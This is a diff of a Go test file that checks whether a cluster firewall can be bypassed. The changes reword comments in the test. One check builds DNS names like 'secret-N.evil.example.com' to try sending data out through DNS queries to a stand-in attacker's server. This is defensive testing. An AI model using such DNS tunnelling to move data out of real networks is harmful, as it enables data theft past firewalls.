@@ -11,7 +11,8 @@ import (
 )
 
 // TestFirewallCannotBeBypassed tries every way in which a project's administrator could bypass a
-// firewall. Each way works without the firewall, or never works.
+// firewall. To show that the tests are effective, each way either works without the firewall or can
+// never work.
 func TestFirewallCannotBeBypassed(t *testing.T) {
 	c := kit.Shared(t)
 	o := newOutside(t, c)
@@ -58,12 +59,13 @@ subsets: [{addresses: [{ip: 203.0.113.1}], ports: [{port: 8080}]}]
 	checkTunnel(t, c, o)
 }
 
-// checkTunnel sends data in names that a pod asks the node's DNS server for. The firewall denies
-// all addresses. Without a restriction of names, the data reaches the names' own DNS server.
+// checkTunnel tries to send data outside the cluster in DNS queries to the node's DNS server, while
+// the firewall denies all addresses. Unless the names are restricted, the data reaches the names'
+// authoritative DNS server.
 func checkTunnel(t *testing.T, c *kit.Cluster, o *outside) {
 	t.Helper()
 	number := 0
-	// send returns the output of the pod's query, and the name, which was never used before.
+	// send queries a name that has not been used before. It returns the output and the name.
 	send := func() (output, name string) {
 		number++
 		name = fmt.Sprintf("secret-%d.evil.example.com.", number)
